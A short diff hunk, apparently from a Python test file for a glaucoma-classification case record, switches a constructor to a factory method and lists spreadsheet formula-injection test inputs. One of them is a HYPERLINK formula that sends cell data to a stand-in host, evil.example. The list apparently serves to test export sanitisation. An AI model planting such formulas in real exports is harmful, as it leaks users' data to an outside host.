@@ -95,7 +95,7 @@ def record(**kw) -> CaseRecord:
                 prompt_set_sha256="cd" * 32, probabilities={"normal": 0.7, "glaucoma": 0.3}, model_id="m",
                 predicted_label="normal")
     base.update(kw)
-    return CaseRecord(**base)
+    return CaseRecord.of(**base)
 
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
